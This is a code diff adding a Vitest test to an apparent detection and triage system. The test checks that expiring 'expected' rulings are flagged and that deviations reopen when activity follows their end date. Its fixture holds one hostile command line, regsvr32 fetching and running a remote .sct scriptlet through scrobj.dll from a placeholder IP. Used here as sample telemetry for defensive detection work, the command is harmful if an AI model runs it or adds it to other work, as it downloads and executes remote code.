@@ -1,9 +1,13 @@
 import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
 import { systemActor } from '@/lib/pipeline/actor'
 import { closePool, pool } from '@/lib/store/pool'
+import { listEndingRulings } from '@/lib/store/screens/deviations/ending-rulings'
+import { parseDeviationRequest } from '@/lib/store/screens/deviations/filter'
+import { listDeviations } from '@/lib/store/screens/deviations/list'
 import { createTestDatabase, type TestDatabase } from '@/lib/store/test-database'
 import { assignDeviation } from './assign-deviation'
 import { commentDeviation } from './comment-deviation'
+import { ingestExamples } from './ingest/example-use'
 import { recompute } from './recompute/recompute'
 import { triageDeviation } from './triage-deviation'
 import {
@@ -82,6 +86,35 @@ test('expected with an end explains nothing after it', async () => {
     `SELECT 1 FROM usage WHERE day <= '2026-01-06' AND score_millibits >= 4000`,
   )
   expect(rows).toEqual([])
+})
+
+test('a ruling that ends soon is warned of, and what is used after its end opens again by itself', async () => {
+  const ending = () => listEndingRulings({ kind: 'all' }, '2026-01-08')
+  await judge(examples.responder, 'scrobj', { to: 'expected', until: '2026-03-01' })
+  expect(await ending()).toEqual([])
+  await judge(examples.responder, 'scrobj', { to: 'open' })
+  await judge(examples.responder, 'scrobj', { to: 'expected', until: '2026-01-10' })
+  const { id } = await itemOf('scrobj')
+  expect(await ending()).toMatchObject([{ deviationId: id, until: '2026-01-10' }])
+  const asked = parseDeviationRequest({})
+  const open = async () => (await listDeviations({ kind: 'all' }, asked)).rows.map((row) => row.id)
+  expect(await open()).not.toContain(id)
+  await ingestExamples(pool(), [
+    {
+      host: 'ws-1.example',
+      at: '2026-01-11T10:00:00Z',
+      image: 'C:\\Windows\\System32\\regsvr32.exe',
+      commandLine: 'regsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll',
+    },
+  ])
+  await recompute(pool())
+  expect(await open()).toContain(id)
+  const { rows } = await pool().query('SELECT DISTINCT day FROM deviation_hit WHERE deviation_id = $1', [id])
+  expect(rows).toEqual([{ day: '2026-01-11' }])
+  await pool().query("DELETE FROM execution WHERE occurred_at >= '2026-01-11'")
+  await pool().query("DELETE FROM process WHERE occurred_at >= '2026-01-11'")
+  await pool().query("UPDATE host_work SET dirty_from = '2026-01-11', revision = revision + 1")
+  await recompute(pool())
 })
 
 test('malicious removes what it taught', async () => {
